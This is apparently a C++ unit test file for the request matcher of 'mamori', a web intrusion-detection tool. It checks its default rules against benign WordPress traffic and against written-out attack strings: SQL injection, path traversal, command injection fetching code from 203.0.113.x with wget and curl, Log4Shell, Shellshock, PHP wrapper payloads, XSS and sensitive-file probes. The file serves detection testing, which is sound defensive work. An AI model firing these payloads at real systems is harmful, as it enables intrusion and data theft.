#include "core/rules/matcher.h"

#include <gtest/gtest.h>

#include <string>
#include <thread>
#include <vector>

namespace mamori::rules {
namespace {

const std::string kDefaults = std::string(MAMORI_SOURCE_DIR) + "/etc/rules/default.rules";
constexpr std::string_view kChrome =
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
    "Chrome/122.0.0.0 Safari/537.36";

Matcher compiled(std::string_view text) {
  auto set = parse_rules(text, "m.rules");
  EXPECT_TRUE(set) << set.error().text();
  auto m = Matcher::compile(set ? *set : RuleSet{});
  EXPECT_TRUE(m) << m.error().text();
  return std::move(*m);
}

// The default set, compiled once for all tests (compiling takes a fraction of a second).
const Matcher& defaults() {
  static const Matcher m = [] {
    auto set = load_rules({kDefaults});
    EXPECT_TRUE(set) << set.error().text();
    auto c = Matcher::compile(std::move(*set));
    EXPECT_TRUE(c) << c.error().text();
    return std::move(*c);
  }();
  return m;
}

// Ids of the rules `r` matches; without the thresholds every request meets (request-flood).
std::vector<std::string> ids(const Matcher& m, const Request& r) {
  auto scratch = m.make_scratch();
  EXPECT_TRUE(scratch);
  std::vector<uint32_t> matched;
  EXPECT_TRUE(m.match(r, *scratch, matched));
  std::vector<std::string> out;
  for (const uint32_t i : matched) {
    const Rule& rule = m.rules().rules[i];
    if (rule.kind == Kind::kSignature || !rule.status.empty() || !rule.methods.empty() ||
        !rule.pattern.empty())
      out.push_back(rule.id);
  }
  return out;
}

// Ids of the default rules a GET of `target` matches, with a browser's user agent.
std::vector<std::string> target_ids(std::string_view target, int status = 200,
                                    std::string_view method = "GET") {
  const std::string request = std::string(method) + " " + std::string(target) + " HTTP/1.1";
  return ids(defaults(), Request{method, target, request, kChrome, "-", status});
}

bool has(const std::vector<std::string>& v, std::string_view id) {
  return std::find(v.begin(), v.end(), id) != v.end();
}

std::string joined(const std::vector<std::string>& v) {
  std::string s;
  for (const auto& x : v) s += x + " ";
  return s;
}

TEST(Matcher, BenignWordPressTrafficMatchesNothing) {
  const std::string_view benign[] = {
      "/",
      "/wp-admin/admin-ajax.php",
      "/wp-json/wp/v2/posts?per_page=10",
      "/?s=select+a+theme",
      "/?s=select a theme",
      "/wp-content/themes/x/style.css?ver=6.1",
      "/wp-includes/js/jquery/jquery.min.js?ver=3.7.1",
      "/wp-includes/js/tinymce/wp-tinymce.php?ver=4960-20211118",
      "/wp-admin/load-scripts.php?c=0&load[chunk_0]=jquery-core,jquery-migrate&ver=6.4.3",
      "/wp-admin/post.php?post=123&action=edit",
      "/wp-login.php?redirect_to=https://www.example.org/wp-admin/&reauth=1",
      "/wp-cron.php?doing_wp_cron=1710028800.1234560871124267578125",
      "/2024/01/union-station-review/",
      "/category/linux/page/2/",
      "/shop/?orderby=price&order=desc",
      "/?s=union select committee minutes",
      "/?s=union+select+committee+minutes",
      "/?s=select or insert key",
      "/?s=drop table leg repair",
      "/?s=1=1 tutorial",
      "/?s=order by date",
      "/?s=O'Reilly books",
      "/?s=rock 'n' roll",
      "/?s=\"exact phrase\" -minus",
      "/?s=\"#hashtag\"",
      "/?s=curl tutorial",
      "/?p=123",
      "/feed/",
      "/robots.txt",
      "/sitemap_index.xml",
      "/.well-known/acme-challenge/Zm9vYmFy",
      "/wp-json/oembed/1.0/embed?url=https://www.example.org/2024/01/x/",
      "/?utm_source=newsletter&utm_medium=email&utm_campaign=spring",
      "/wp-content/uploads/2024/01/header.webp",
      "/wp-content/uploads/2019/05/old-gallery-150x150.jpg",
      "/wp-content/plugins/contact-form-7/includes/js/index.js?ver=5.8.7",
      "/about-us/?ref=footer&lang=en",
      "/search/site/environment?x=1",
  };
  // A search may hold a short SQL or XSS fragment once ("union select committee minutes"):
  // sqli-xss-fragment-repeat counts it and bans only at its threshold (3 in 5 minutes,
  // tests/cases/sqli-xss-fragments), never on one request.
  for (const auto target : benign) {
    auto got = target_ids(target);
    std::erase(got, std::string("sqli-xss-fragment-repeat"));
    EXPECT_EQ(joined(got), "") << target;
  }
  EXPECT_EQ(joined(target_ids("/wp-admin/admin-ajax.php", 200, "POST")), "");
  EXPECT_EQ(joined(target_ids("/wp-comments-post.php", 302, "POST")), "");
  const std::string_view agents[] = {
      kChrome,
      "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
      "Mozilla/5.0 (iPhone; CPU iPhone OS 17_3_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, "
      "like Gecko) Version/17.3 Mobile/15E148 Safari/604.1",
      "Feedly/1.0 (+http://www.feedly.com/fetcher.html; 12 subscribers; like FeedFetcher-Google)",
      "Mozilla/5.0+(compatible; UptimeRobot/2.0; http://www.uptimerobot.com/)",
      "curl/7.88.1",
      "python-requests/2.31.0",
      "WordPress/6.4.3; https://www.example.org",
  };
  for (const auto ua : agents)
    EXPECT_EQ(joined(ids(defaults(), Request{"GET", "/", "GET / HTTP/1.1", ua, "-", 200})), "")
        << ua;
}

TEST(Matcher, DefaultCategoriesCatchTheirAttacks) {
  const std::pair<std::string_view, std::string_view> attacks[] = {
      {"/index.php?id=-1 UNION SELECT 1,2,3-- -", "sqli-union-select"},
      {"/?id=-1+union+all+select+null,null,null--", "sqli-union-select"},
      {"/?id=1 union select @@version,2,3", "sqli-union-select"},
      {"/?id=1 AND SLEEP(5)", "sqli-time-based"},
      {"/?id=(select(0)from(select(sleep(6)))v)", "sqli-time-based"},
      {"/?id=1 or benchmark(10000000,MD5(1))#", "sqli-time-based"},
      {"/?id=1 AND (SELECT 1 FROM information_schema.tables)", "sqli-schema-tables"},
      {"/?id=1' OR '1'='1", "sqli-tautology"},
      {"/?id=1'+OR+1=1--+-", "sqli-tautology"},
      {"/?id=1 OR 1=1", "sqli-tautology"},
      {"/?id=1) OR (1=1", "sqli-tautology"},
      {"/?user=admin'--", "sqli-quote-comment"},
      {"/?id=1' ORDER BY 10-- -", "sqli-quote-comment"},
      {"/?id=1;WAITFOR DELAY '0:0:5'--", "sqli-stacked-query"},
      {"/?id=1; drop table users", "sqli-stacked-query"},
      {"/?id=1 AND extractvalue(1,concat(0x7e,(select database())))-- -", "sqli-error-based"},
      {"/?id=1 AND 1=CONVERT(int,(SELECT @@version))", "sqli-error-based"},
      {"/product.php?id=1'", "sqli-quote-probe"},
      {"/index.php?page=../../../../etc/passwd", "traversal-dotdot"},
      {"/images/..\\..\\windows\\win.ini", "traversal-dotdot"},
      {"/etc/passwd", "traversal-system-files"},
      {"/?lang=../../../../proc/self/environ", "traversal-system-files"},
      {std::string_view("/?file=a.php\0", 13), "null-byte"},
      {"/?ip=127.0.0.1;wget http://203.0.113.9/x", "rce-command-injection"},
      {"/?q=x|curl -s http://203.0.113.9/", "rce-command-injection"},
      {"/?q=$(id)", "rce-command-injection"},
      {"/x.php?cmd=wget -O /tmp/x http://203.0.113.250/x", "rce-download"},
      {"/?x=${jndi:ldap://203.0.113.9/a}", "rce-log4shell"},
      {"/?page=php://input", "rce-php-wrapper"},
      {"/?page=php://filter/convert.base64-encode/resource=index", "rce-php-wrapper"},
      {"/?f=data://text/plain;base64,PD9waHA=", "rce-php-wrapper"},
      {"/?f=expect://id", "rce-php-wrapper"},
      {"/index.php?-d allow_url_include=1 -d auto_prepend_file=php://input", "rce-php-settings"},
      {"/?x=eval(base64_decode('aWQ='))", "rce-php-code"},
      {"/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "rce-exploit-path"},
      {"/c99.php", "webshell-known-name"},
      {"/r57.php", "webshell-known-name"},
      {"/wp-content/plugins/x/wso.php", "webshell-known-name"},
      {"/b374k.php", "webshell-known-name"},
      {"/alfa.php", "webshell-known-name"},
      {"/shell.php?cmd=id", "webshell-command-parameter"},
      {"/index.php?exec=ls", "webshell-command-parameter"},
      {"/1.php", "webshell-generic-name"},
      {"/wp-content/uploads/2024/02/wp-cache.php", "webshell-php-in-uploads"},
      {"/.env", "sensitive-env"},
      {"/app/.env.production", "sensitive-env"},
      {"/.git/config", "sensitive-vcs"},
      {"/.git/HEAD", "sensitive-vcs"},
      {"/.svn/entries", "sensitive-vcs"},
      {"/.htpasswd", "sensitive-dotfile"},
      {"/.DS_Store", "sensitive-dotfile"},
      {"/wp-config.php.bak", "sensitive-wp-config-backup"},
      {"/wp-config.php~", "sensitive-wp-config-backup"},
      {"/wp-config.php.save", "sensitive-wp-config-backup"},
      {"/wp-config.php.old", "sensitive-wp-config-backup"},
      {"/wp-config.php.swp", "sensitive-wp-config-backup"},
      {"/config.php.bak", "sensitive-source-backup"},
      {"/backup.sql", "sensitive-dump"},
      {"/site.tar.gz", "sensitive-dump"},
      {"/server-status", "sensitive-server-status"},
      {"/phpmyadmin/", "probe-phpmyadmin"},
      {"/pma/", "probe-phpmyadmin"},
      {"/myadmin/", "probe-phpmyadmin"},
      {"/phpMyAdmin/scripts/setup.php", "probe-phpmyadmin"},
      {"/?author=1", "wp-user-enumeration"},
      {"/xmlrpc.php", "wp-xmlrpc-probe"},
      {"/?s=<script>alert(1)</script>", "xss-script-tag"},
      {"/?x=<img src=x onerror=alert(1)>", "xss-script-tag"},
  };
  for (const auto& [target, id] : attacks) {
    const auto got = target_ids(target, 404);
    EXPECT_TRUE(has(got, id)) << target << " gave: " << joined(got);
  }
  // The raw request line catches encodings whatever the normaliser made of them.
  EXPECT_TRUE(
      has(ids(defaults(), Request{"GET", "/etc/passwd", "GET /..%2f..%2f..%2fetc%2fpasswd HTTP/1.1",
                                  kChrome, "", 404}),
          "traversal-encoded"));
  EXPECT_TRUE(
      has(ids(defaults(), Request{"GET", "/x", "GET /%c0%ae%c0%ae/etc HTTP/1.1", kChrome, "", 404}),
          "traversal-encoded"));
}

TEST(Matcher, HeadersAndScannerAgents) {
  auto ua_ids = [](std::string_view ua) {
    return ids(defaults(), Request{"GET", "/", "GET / HTTP/1.1", ua, "", 200});
  };
  EXPECT_TRUE(has(ua_ids("() { :; }; /bin/bash -c id"), "rce-shellshock"));
  EXPECT_TRUE(has(ua_ids("${jndi:ldap://203.0.113.9/a}"), "rce-log4shell"));
  EXPECT_TRUE(has(ids(defaults(), Request{"GET", "/", "GET / HTTP/1.1", kChrome,
                                          "${${lower:j}ndi:ldap://x/}", 200}),
                  "rce-log4shell"));
  const std::string_view scanners[] = {
      "sqlmap/1.7.2#stable (https://sqlmap.org)",
      "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000003)",
      "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
      "masscan/1.3 (https://github.com/robertdavidgraham/masscan)",
      "Mozilla/5.0 zgrab/0.x",
      "Mozilla/5.0 (compatible; Nuclei - Open-source project (github.com/projectdiscovery/nuclei))",
      "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
      "DirBuster-1.0-RC1 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)",
      "gobuster/3.6",
      "Fuzz Faster U Fool v2.1.0",
      "Mozilla/5.0 (Windows NT 6.1) Acunetix-Product",
      "Mozilla/5.0 (compatible; Nessus)",
      "Mozilla/5.0 OpenVAS-VT 22.4",
      "w3af.org",
      "fimap.googlecode.com",
      "ZmEu",
      "Mozilla/4.0 (Hydra)",
  };
  for (const auto ua : scanners) EXPECT_TRUE(has(ua_ids(ua), "scanner-user-agent")) << ua;
}

TEST(Matcher, ThresholdConditionsUseMethodAndStatus) {
  EXPECT_TRUE(has(target_ids("/wp-login.php", 200, "POST"), "wp-login-bruteforce"));
  EXPECT_TRUE(has(target_ids("/wp-login.php", 200, "POST"), "wp-login-bruteforce-slow"));
  // A good login (302) counts towards the fast rule only; a GET towards neither.
  EXPECT_FALSE(has(target_ids("/wp-login.php", 302, "POST"), "wp-login-bruteforce-slow"));
  EXPECT_FALSE(has(target_ids("/wp-login.php", 200, "GET"), "wp-login-bruteforce"));
  EXPECT_TRUE(has(target_ids("/xmlrpc.php", 200, "POST"), "xmlrpc-bruteforce"));
  EXPECT_FALSE(has(target_ids("/xmlrpc.php", 200, "POST"), "wp-xmlrpc-probe"));
  EXPECT_TRUE(has(target_ids("/missing", 404), "http-404-burst"));
  EXPECT_FALSE(has(target_ids("/missing", 200), "http-404-burst"));
}

TEST(Matcher, MalformedRequestLinesMeetOnlyTheirRules) {
  // The default rules: bytes of another protocol count in both, text that is no request
  // and the empty request answered 400 in bad-request-line only; a request that is one
  // (with a high byte in its path) in neither, nor a timeout's empty request (408).
  const std::string_view tls("\x16\x03\x01\x01$\x01\x00\x01 \x03\x03", 12);
  Request r{"", "", tls, "", "", 400};
  r.malformed = true;
  auto got = ids(defaults(), r);
  EXPECT_TRUE(has(got, "bad-request-binary") && has(got, "bad-request-line")) << joined(got);
  r.request = "HELP";
  got = ids(defaults(), r);
  EXPECT_TRUE(!has(got, "bad-request-binary") && has(got, "bad-request-line")) << joined(got);
  r.request = "";
  got = ids(defaults(), r);
  EXPECT_TRUE(!has(got, "bad-request-binary") && has(got, "bad-request-line")) << joined(got);
  r.status = 408;
  got = ids(defaults(), r);
  EXPECT_TRUE(!has(got, "bad-request-binary") && !has(got, "bad-request-line")) << joined(got);
  got = ids(defaults(),
            Request{"GET", "/caf\xc3\xa9", "GET /caf\xc3\xa9 HTTP/1.1", kChrome, "-", 400});
  EXPECT_TRUE(!has(got, "bad-request-binary") && !has(got, "bad-request-line")) << joined(got);

  // malformed = true alone is a condition; without it a rule sees both kinds.
  const Matcher m = compiled(R"(
[[rule]]
id = "none"
malformed = true
action = "log"

[[rule]]
id = "any-400"
status = 400
action = "log"
)");
  Request line{"", "", "HELP", "", "", 400};
  line.malformed = true;
  EXPECT_EQ(joined(ids(m, line)), "none any-400 ");
  EXPECT_EQ(joined(ids(m, Request{"GET", "/", "GET / HTTP/1.1", "", "", 400})), "any-400 ");
  EXPECT_FALSE(
      parse_rules("[[rule]]\nid = \"x\"\nmalformed = false\naction = \"log\"\n", "m.rules"));
}

TEST(Matcher, ThresholdsAreReportedAsConditions) {
  // Besides what the benign test checks, every request meets the flood condition.
  auto set = load_rules({kDefaults});
  ASSERT_TRUE(set);
  const Matcher& m = defaults();
  auto scratch = m.make_scratch();
  ASSERT_TRUE(scratch);
  std::vector<uint32_t> matched;
  ASSERT_TRUE(m.match(Request{"GET", "/", "GET / HTTP/1.1", kChrome, "", 200}, *scratch, matched));
  ASSERT_EQ(matched.size(), 1u);
  EXPECT_EQ(m.rules().rules[matched[0]].kind, Kind::kThreshold);
}

TEST(Matcher, EachRuleAtMostOnceInAscendingOrder) {
  const Matcher m = compiled(R"(
[[rule]]
id = "anywhere"
pattern = 'evil'
field = ["target", "request", "user_agent", "referer"]
action = "ban"
[[rule]]
id = "posts"
method = "POST"
action = "log"
[[rule]]
id = "cased"
pattern = 'Evil'
case_sensitive = true
field = "user_agent"
action = "log"
[[rule]]
id = "off"
pattern = 'evil'
enabled = false
action = "ban"
)");
  EXPECT_EQ(joined(ids(
                m, Request{"POST", "/evil/evil", "POST /evil HTTP/1.1", "EVIL evil", "evil", 200})),
            "anywhere posts ");
  EXPECT_EQ(joined(ids(m, Request{"GET", "/", "", "Evil", "", 200})), "anywhere cased ");
  EXPECT_EQ(joined(ids(m, Request{"GET", "/", "", "", "", 200})), "");
}

TEST(Matcher, TheMemoKeepsFiltersPerRequest) {
  const Matcher m = compiled(R"(
[[rule]]
id = "posts-to-x"
pattern = '^/x'
method = "POST"
action = "ban"
[[rule]]
id = "ua"
pattern = 'bot'
field = "user_agent"
status = "4xx"
action = "log"
)");
  auto scratch = m.make_scratch();
  ASSERT_TRUE(scratch);
  std::vector<uint32_t> matched;
  auto run = [&](std::string_view method, std::string_view target, std::string_view ua,
                 int status) {
    EXPECT_TRUE(m.match(Request{method, target, "", ua, "", status}, *scratch, matched));
    return matched.size();
  };
  // The same values again, from the memo, with other methods and statuses.
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(run("POST", "/x", "a bot", 200), 1u);
    EXPECT_EQ(run("GET", "/x", "a bot", 200), 0u);
    EXPECT_EQ(run("GET", "/x", "a bot", 404), 1u);
    EXPECT_EQ(run("POST", "/y", "a human", 404), 0u);
  }
  // Many distinct values (collisions overwrite slots) and one too long for the memo.
  for (int i = 0; i < 2000; ++i)
    EXPECT_EQ(run("POST", "/x" + std::to_string(i), std::to_string(i), 200), 1u);
  const std::string long_ua(Matcher::kMemoMaxBytes + 1, 'b');
  EXPECT_EQ(run("GET", "/", long_ua + "bot", 403), 1u);
  EXPECT_EQ(run("GET", "/", long_ua + "bot", 403), 1u);
  EXPECT_EQ(run("POST", "/x", "a bot", 403), 2u);
}

TEST(Matcher, CompileErrorsNameTheRulesFileAndLine) {
  // parse_rules() already refuses bad patterns; a set built by hand reaches the compiler.
  RuleSet set;
  Rule good;
  good.id = "good";
  good.pattern = "abc";
  good.fields = {Field::kTarget};
  Rule bad = good;
  bad.id = "bad";
  bad.pattern = "(abc";
  bad.file = "/etc/mamori/rules.d/local.rules";
  bad.pattern_line = 12;
  bad.pattern_column = 11;
  set.rules = {good, bad};
  auto m = Matcher::compile(set);
  ASSERT_FALSE(m);
  EXPECT_EQ(m.error().code, "rules.pattern");
  EXPECT_EQ(m.error().text().rfind("/etc/mamori/rules.d/local.rules:12:11: bad.pattern: ", 0), 0u)
      << m.error().text();
  // Disabled rules are not compiled.
  set.rules[1].enabled = false;
  EXPECT_TRUE(Matcher::compile(set));
  EXPECT_EQ(Matcher::check_pattern("a(b", false).empty(), false);
  EXPECT_EQ(Matcher::check_pattern("a(b)", false), "");
}

TEST(Matcher, AnEmptySetMatchesNothing) {
  auto m = Matcher::compile(RuleSet{});
  ASSERT_TRUE(m);
  EXPECT_TRUE(ids(*m, Request{"GET", "/", "", "", "", 200}).empty());
}

TEST(Matcher, SharedByThreadsWithAScratchEach) {
  const Matcher& m = defaults();
  std::vector<std::thread> threads;
  std::vector<int> hits(4);
  for (int t = 0; t < 4; ++t) {
    threads.emplace_back([&m, &hits, t] {
      auto scratch = m.make_scratch();
      std::vector<uint32_t> matched;
      for (int i = 0; i < 2000; ++i) {
        const Request r{"GET", i % 2 ? "/.env" : "/about/", "", kChrome, "", 200};
        if (m.match(r, *scratch, matched) && matched.size() > 1) ++hits[t];
      }
    });
  }
  for (auto& t : threads) t.join();
  for (const int h : hits) EXPECT_EQ(h, 1000);
}

TEST(Matcher, ScratchFromAnotherMatcherFails) {
  const Matcher other = compiled("[[rule]]\nid = \"a\"\npattern = 'x'\naction = \"ban\"\n");
  auto scratch = other.make_scratch();
  ASSERT_TRUE(scratch);
  std::vector<uint32_t> matched;
  // Its memo would hold the other matcher's rule numbers.
  matched.push_back(7);
  auto st = defaults().match(Request{"GET", "/.env", "GET /.env HTTP/1.1", kChrome, "-", 200},
                             *scratch, matched);
  ASSERT_FALSE(st);
  EXPECT_NE(st.error().message().find("another matcher"), std::string::npos);
  EXPECT_TRUE(matched.empty());
}

}  // namespace
}  // namespace mamori::rules
